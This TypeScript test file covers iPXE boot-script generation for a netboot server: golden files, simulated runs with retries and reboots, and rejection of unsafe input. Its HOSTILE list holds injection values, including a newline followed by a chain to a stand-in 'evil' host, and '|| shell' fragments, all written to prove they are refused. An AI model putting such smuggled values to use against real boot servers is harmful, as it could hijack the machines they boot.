/**
 * iPXE scripts: golden files, behaviour when run (ipxe-sim.ts, an interpreter
 * written from iPXE's source), and refusal of values that could inject commands.
 * Regenerate the goldens after an intended template change:
 *   UPDATE_GOLDEN=1 npx tap test/boot/script.test.ts
 */
import t, { type Test } from 'tap'
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { isNetbootError } from '../../server/errors.js'
import { DEFAULT_RETRY_POLICY, IpxeScripts, TEMPLATE_NAMES, shapeDifference, type BootScriptInput } from '../../server/boot/script.js'
import { autoexecCases, bootCases, discoverCases, rebootCases, SERVER } from './cases.js'
import { runScript, scriptLines } from './ipxe-sim.js'

const FIXTURES = fileURLToPath(new URL('../fixtures/boot/', import.meta.url))
const TEMPLATES = fileURLToPath(new URL('../../ipxe/', import.meta.url))

const scripts = await IpxeScripts.load()

function golden (t: Test, name: string, text: string): void {
  const file = join(FIXTURES, `${name}.ipxe`)
  if (process.env.UPDATE_GOLDEN === '1' || !existsSync(file)) {
    if (process.env.CI !== undefined) t.fail(`${name}.ipxe is missing`)
    writeFileSync(file, text)
  }
  t.equal(text, readFileSync(file, 'utf8'), `${name} matches test/fixtures/boot/${name}.ipxe`)
}

const rendered: Record<string, string> = {}
for (const [name, input] of Object.entries(bootCases)) rendered[name] = scripts.boot(input)
for (const [name, input] of Object.entries(discoverCases)) rendered[name] = scripts.discover(input)
for (const [name, input] of Object.entries(rebootCases)) rendered[name] = scripts.reboot(input)
for (const [name, input] of Object.entries(autoexecCases)) rendered[name] = scripts.autoexec(input)

t.test('golden scripts', async (t) => {
  for (const [name, text] of Object.entries(rendered)) golden(t, name, text)
})

t.test('every script is well formed', async (t) => {
  for (const [name, text] of Object.entries(rendered)) {
    t.ok(text.startsWith('#!ipxe\n'), `${name}: #!ipxe signature`)
    t.notMatch(text, /imgstat|\bshell\b|\bexit\b|\bprompt\b/, `${name}: no imgstat, shell, exit or prompt`)
    t.notMatch(text, /[^\x20-\x7e\n]/, `${name}: printable ASCII and newlines only`)
    t.notMatch(text, /\{\{|\}\}/, `${name}: no template syntax left`)
    const lines = scriptLines(text)
    const labels = lines.flatMap((l) => (l.label === undefined ? [] : [l.label]))
    t.same([...new Set(labels)], labels, `${name}: labels are unique`)
    for (const m of text.matchAll(/goto (\S+)/g)) t.ok(labels.includes(m[1]!), `${name}: goto ${m[1]} has a label`)
    for (const line of text.split('\n').filter((l) => /^(kernel|initrd|chain|dhcp) /.test(l))) {
      t.match(line, /\|\| goto retry_\w+$/, `${name}: "${line.slice(0, 30)}…" retries on failure`)
    }
    const lastLines = text.trimEnd().split('\n').slice(-2)
    t.same(lastLines, name.startsWith('reboot') ? ['echo netboot: reboot failed; trying again in ' + String(rebootCases[name]!.delaySeconds) + ' s', 'goto reboot'] : ['reboot ||', 'goto failed'], `${name}: ends by rebooting, again and again`)
  }
  for (const name of [...Object.keys(bootCases), ...Object.keys(discoverCases)]) t.match(rendered[name]!, /^boot \|\| goto failed$/m, `${name}: boot || goto failed`)
})

t.test('boot script, run: everything downloads', async (t) => {
  for (const [name, input] of Object.entries(bootCases)) {
    const r = runScript(rendered[name]!)
    t.equal(r.end.kind, 'boot', `${name} boots`)
    if (r.end.kind !== 'boot') continue
    t.equal(r.end.kernel.url, input.kernel)
    const initrdArgs = input.initrds.map((f) => `initrd=${f.name}`).join(' ')
    t.equal(r.end.kernel.cmdline, input.cmdline === '' ? initrdArgs : `${initrdArgs} ${input.cmdline}`, `${name}: kernel command line is initrd=… then the composed parameters`)
    t.same(r.end.initrds.map((i) => ({ name: i.name, url: i.url })), input.initrds, `${name}: initrds loaded under the names initrd= gives`)
    t.same(r.sleeps, [], 'no sleeps')
  }
})

t.test('boot script, run: failures retry a bounded number of times, then reboot', async (t) => {
  const input = bootCases['boot-two-initrds-custom-retry']!
  const retry = input.retry!
  const script = rendered['boot-two-initrds-custom-retry']!

  let r = runScript(script, { downloads: { [input.kernel]: Array(50).fill(false) } })
  t.equal(r.end.kind, 'reboot')
  t.equal(r.fetches.filter((u) => u === input.kernel).length, retry.attempts, 'kernel tried exactly `attempts` times')
  t.same(r.sleeps, [...Array(retry.attempts - 1).fill(retry.delaySeconds), retry.rebootDelaySeconds], 'a pause between tries, then the reboot delay')
  t.match(r.echoes.at(-1), /could not boot image gpu-el9; rebooting in 60 s/)

  r = runScript(script, { downloads: { [input.kernel]: [false, false], [input.initrds[1]!.url]: [false] } })
  t.equal(r.end.kind, 'boot', 'transient failures recover')
  t.same(r.sleeps, [3, 3, 3])
  t.match(r.echoes, ['netboot: node gpu-x1000c0s0b0n0 boots image gpu-el9', 'netboot: kernel download failed (try 1 of 10), retrying in 3 s', 'netboot: kernel download failed (try 2 of 10), retrying in 3 s', 'netboot: initrd agent.cpio download failed (try 1 of 10), retrying in 3 s', 'netboot: starting the kernel'])

  r = runScript(script, { downloads: { [input.initrds[1]!.url]: Array(50).fill(false) } })
  t.equal(r.end.kind, 'reboot', 'second initrd never arrives: reboot')
  t.equal(r.fetches.filter((u) => u === input.initrds[1]!.url).length, retry.attempts)

  r = runScript(script, { bootFails: true })
  t.equal(r.end.kind, 'reboot', 'boot returns: reboot')

  r = runScript(script, { bootFails: true, rebootFailures: 1000, maxSteps: 500 })
  t.equal(r.end.kind, 'step-limit', 'reboot keeps failing: keeps trying, never a shell or the end of the script')
  t.ok(r.sleeps.length > 10 && r.sleeps.every((s) => s === 60), 'with a pause between reboot attempts')
})

t.test('retry delay has a per-machine jitter', async (t) => {
  const base = bootCases['boot-bss']!
  const delays = new Set<number>()
  for (let i = 0; i < 50; i++) {
    const r = runScript(scripts.boot({ ...base, node: `nid${i}` }), { downloads: { [base.kernel]: [false] } })
    t.equal(r.sleeps.length, 1)
    delays.add(r.sleeps[0]!)
  }
  t.ok([...delays].every((d) => d >= DEFAULT_RETRY_POLICY.delaySeconds && d <= DEFAULT_RETRY_POLICY.delaySeconds + DEFAULT_RETRY_POLICY.jitterSeconds), 'within delay + jitter')
  t.ok(delays.size >= 4, `spread over ${delays.size} values`)
  t.equal(scripts.boot(base), scripts.boot(base), 'stable for one machine')
})

t.test('discovery, reboot and autoexec scripts, run', async (t) => {
  const d = discoverCases['discover-unknown-mac']!
  let r = runScript(rendered['discover-unknown-mac']!)
  t.equal(r.end.kind, 'boot')
  if (r.end.kind === 'boot') t.equal(r.end.kernel.cmdline, `initrd=initrd.img ${d.cmdline}`)
  t.match(d.cmdline, /netboot\.mode=discover$/)

  r = runScript(rendered['reboot-unknown-mac']!)
  t.equal(r.end.kind, 'reboot')
  t.same(r.sleeps, [30])
  t.same(r.echoes, ['netboot: ec:e7:a7:05:a1:fc is not enrolled (unknown_nodes.action=reboot)', 'netboot: rebooting in 30 s'])

  r = runScript(rendered['autoexec-path']!, { settings: { 'netX/mac': 'ec:e7:a7:05:a1:fc' } })
  t.equal(r.end.kind, 'boot')
  if (r.end.kind === 'boot') t.equal(r.end.kernel.url, `${SERVER}/boot/ec:e7:a7:05:a1:fc.ipxe`, 'chains to the script of the NIC that got the lease')
  r = runScript(rendered['autoexec-query']!, { dhcp: [false, false, false, false] })
  t.equal(r.end.kind, 'reboot', 'no lease after `attempts` tries: reboot')
  t.equal(r.events.filter((e) => e.cmd === 'dhcp').length, 3)
  r = runScript(rendered['autoexec-query']!, { dhcp: [false], downloads: { [`${SERVER}/boot.ipxe?mac=52:54:00:12:34:56`]: [false, false] } })
  t.equal(r.end.kind, 'boot')
  t.equal(r.fetches.length, 3)
})

/** A value for an assertion name: every non-printable character as \uXXXX, so TAP lines stay whole. */
const show = (v: string): string => JSON.stringify(v).replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)

const HOSTILE = [
  'a\nchain http://evil/x', 'a\rshell', 'a\tb', 'a\u0000', 'a\u000bb', 'caf\u00e9', 'a\u2028b',
  'x || shell', 'x && shell', 'x ; shell', '|| shell', '#', 'x #comment', '${root}', 'a${net0/ip}b', 'x$', 'x\\',
  '${', 'a ${x} b',
]

t.test('values that could change a script are refused, field by field', async (t) => {
  const base = bootCases['boot-bss']!
  const cases: [string, (v: string) => unknown][] = [
    ['node', (v) => scripts.boot({ ...base, node: v })],
    ['image', (v) => scripts.boot({ ...base, image: v })],
    ['kernel', (v) => scripts.boot({ ...base, kernel: `http://h/${v}` })],
    ['initrd url', (v) => scripts.boot({ ...base, initrds: [{ url: `http://h/${v}`, name: 'i' }] })],
    ['initrd name', (v) => scripts.boot({ ...base, initrds: [{ url: 'http://h/i', name: v }] })],
    ['cmdline', (v) => scripts.boot({ ...base, cmdline: `ro ${v}` })],
    ['mac', (v) => scripts.discover({ ...discoverCases['discover-unknown-mac']!, mac: v })],
    ['reason', (v) => scripts.reboot({ reason: `no ${v}` })],
    ['scriptUrl', (v) => scripts.autoexec({ scriptUrl: `http://h/{mac}/${v}` })],
  ]
  for (const [field, render] of cases) {
    for (const v of HOSTILE) {
      try {
        render(v)
        t.fail(`${field}: ${show(v)} was accepted`)
      } catch (e) {
        t.ok(isNetbootError(e, 'BOOT_VALUE_INVALID'), `${field}: ${show(v)} refused`)
      }
    }
  }
})

t.test('other refusals', async (t) => {
  const base = bootCases['boot-bss']!
  const refused = (what: string, f: () => unknown): void => { t.throws(f, { code: 'BOOT_VALUE_INVALID' }, what) }
  refused('ftp kernel URL', () => scripts.boot({ ...base, kernel: 'ftp://h/k' }))
  refused('URL with credentials', () => scripts.boot({ ...base, kernel: 'http://u:p@h/k' }))
  refused('URL with a fragment', () => scripts.boot({ ...base, kernel: 'http://h/k#x' }))
  refused('URL with a space', () => scripts.boot({ ...base, kernel: 'http://h/a b' }))
  refused('URL with braces', () => scripts.boot({ ...base, kernel: 'http://h/{x}' }))
  refused('relative URL', () => scripts.boot({ ...base, kernel: '/k' }))
  refused('bad percent-encoding', () => scripts.boot({ ...base, kernel: 'http://h/%zz' }))
  refused('initrd named like the kernel', () => scripts.boot({ ...base, initrds: [{ url: 'http://h/i', name: 'vmlinuz' }] }))
  refused('two initrds with one name', () => scripts.boot({ ...base, initrds: [{ url: 'http://h/i', name: 'a' }, { url: 'http://h/j', name: 'a' }] }))
  refused('nine initrds', () => scripts.boot({ ...base, initrds: Array.from({ length: 9 }, (_, i) => ({ url: `http://h/${i}`, name: `i${i}` })) }))
  refused('initrd name with a slash', () => scripts.boot({ ...base, initrds: [{ url: 'http://h/i', name: 'a/b' }] }))
  refused('cmdline over 2047 bytes', () => scripts.boot({ ...base, cmdline: `x=${'a'.repeat(2100)}` }))
  refused('cmdline with double spaces', () => scripts.boot({ ...base, cmdline: 'ro  quiet' }))
  refused('zero attempts', () => scripts.boot({ ...base, retry: { ...DEFAULT_RETRY_POLICY, attempts: 0 } }))
  refused('fractional delay', () => scripts.boot({ ...base, retry: { ...DEFAULT_RETRY_POLICY, delaySeconds: 1.5 } }))
  refused('negative jitter', () => scripts.boot({ ...base, retry: { ...DEFAULT_RETRY_POLICY, jitterSeconds: -1 } }))
  refused('upper-case MAC', () => scripts.discover({ ...discoverCases['discover-unknown-mac']!, mac: 'EC:E7:A7:05:A1:FC' }))
  refused('autoexec URL without {mac}', () => scripts.autoexec({ scriptUrl: 'http://h/boot.ipxe' }))
  refused('autoexec URL with {mac} twice', () => scripts.autoexec({ scriptUrl: 'http://h/{mac}/{mac}' }))
  refused('empty reason', () => scripts.reboot({ reason: '' }))
})

t.test('random hostile values never change the commands of a script', async (t) => {
  const alphabet = ['a', 'b', '0', ' ', '|', '&', ';', '#', '$', '{', '}', '\\', '\n', '\r', '\t', '"', '=', '-', ':', '/', '%', '\u00ff']
  let seed = 0x2545f491
  const rand = (n: number): number => {
    seed ^= seed << 13; seed ^= seed >>> 17; seed ^= seed << 5
    return (seed >>> 0) % n
  }
  const base = bootCases['boot-bss']!
  const reference = scripts.boot({ ...base, node: 'x', image: 'x', cmdline: 'x' })
  let accepted = 0
  for (let i = 0; i < 3000; i++) {
    const v = Array.from({ length: 1 + rand(12) }, () => alphabet[rand(alphabet.length)]).join('')
    for (const field of ['node', 'image', 'cmdline'] as const) {
      let out: string | undefined
      try {
        out = scripts.boot({ ...base, node: 'x', image: 'x', cmdline: 'x', [field]: v } as BootScriptInput)
      } catch (e) {
        if (!isNetbootError(e)) throw e
        continue
      }
      accepted++
      const diff = shapeDifference(out, reference)
      if (diff !== undefined) t.fail(`${field}=${show(v)} changed the script: ${diff}`)
    }
  }
  t.ok(accepted > 100, `${accepted} random values were accepted and left every command as it was`)
})

t.test('templates: load from the project, refuse broken ones at load', async (t) => {
  const sources = Object.fromEntries(TEMPLATE_NAMES.map((n) => [n, readFileSync(join(TEMPLATES, `${n}.ipxe.tpl`), 'utf8')])) as Record<(typeof TEMPLATE_NAMES)[number], string>
  t.ok(IpxeScripts.fromSources(sources), 'the shipped templates load')
  const broken: [string, string][] = [
    ['unknown field', sources.boot.replace('{{node}}', '{{nodename}}')],
    ['unclosed section', sources.boot.replace('{{/initrds}}', '')],
    ['placeholder after $', sources.boot.replace('echo netboot: node {{node}}', 'echo netboot: node ${{node}}')],
    ['placeholder before {', sources.boot.replace('echo netboot: node {{node}}', 'echo netboot: node {{node}}{x}')],
    ['stray braces', `${sources.boot}\necho {{`],
    ['section where a value is expected', sources.boot.replace('{{node}}', '{{initrds}}')],
  ]
  for (const [what, src] of broken) t.throws(() => IpxeScripts.fromSources({ ...sources, boot: src }), { code: 'BOOT_TEMPLATE_INVALID' }, what)
  await t.rejects(IpxeScripts.load('/nonexistent-netboot-templates'), { code: 'BOOT_TEMPLATE_INVALID' })
})
